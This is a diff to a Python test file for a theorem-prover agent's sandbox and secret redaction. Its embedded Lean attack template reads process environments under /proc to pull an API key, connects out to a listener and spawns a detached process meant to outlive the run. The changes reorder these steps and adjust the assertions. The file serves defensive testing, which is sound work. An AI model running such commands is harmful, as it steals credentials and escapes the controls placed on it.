@@ -51,7 +51,6 @@ end Book
 
 #eval IO.FS.readFile "/proc/{os.getpid()}/environ"
 
-#eval IO.FS.readFile "/proc/{holder}/environ"
 
 #eval do
   for entry in ← System.FilePath.readDir "/proc" do
@@ -68,6 +67,8 @@ end Book
 #eval IO.Process.output {{ cmd := "{sys.executable}", args := #["-c", "{connect}"] }}
 
 #eval discard <| IO.Process.spawn {{ cmd := "setsid", args := #["sleep", "{SLEEPER}"] }}
+
+#eval IO.FS.readFile "/proc/{holder}/environ"
 """
 
 
@@ -84,8 +85,9 @@ def run_attack(project: Project, tmp_path: Path, mode: str, monkeypatch: pytest.
                                                             sandbox={"mode": mode})}, "config")
     outside = tmp_path / "outside.txt"
     # A process of the orchestrator's holding the key in its environment, as a git child does while it runs (this
-    # process's own /proc environ shows only what it started with): the attack reads it by its pid first, since
-    # the scan of every process's environment runs past the tool result's cut on a busy machine.
+    # process's own /proc environ shows only what it started with): the attack reads it by its pid last, where
+    # lean_check's result keeps it (the last 4,000 characters of Lean's output when nothing is positioned), however
+    # long the scan of every process's environment runs on a busy machine.
     holder = subprocess.Popen(["sleep", "600"], env=dict(os.environ))
     with _listener() as (port, accepted), contextlib.ExitStack() as stack:
         stack.callback(holder.wait)
@@ -139,7 +141,7 @@ def test_unsandboxed_the_same_attacks_succeed_but_the_key_is_redacted_and_the_ho
     at = sent.find(FAKE_KEY)
     assert at < 0, f"the key reached a model: …{sent[max(0, at - 600):at + 100]}…"
     checked = user_text(project.agents.requests["worker"][2])  # the lean_check result the model read
-    assert "[redacted: ANTHROPIC_API_KEY]" in sent, checked[:6000]
+    assert "[redacted: ANTHROPIC_API_KEY]" in sent, checked[-4500:]
     assert outside.read_text() == "planted" and len(accepted) >= 1
     assert (project.repo / ".prover-state/statement_lock.json").read_text() == "{}"  # the user's checkout
     assert "uncommitted changes (.prover-state/statement_lock.json)" in str(error)
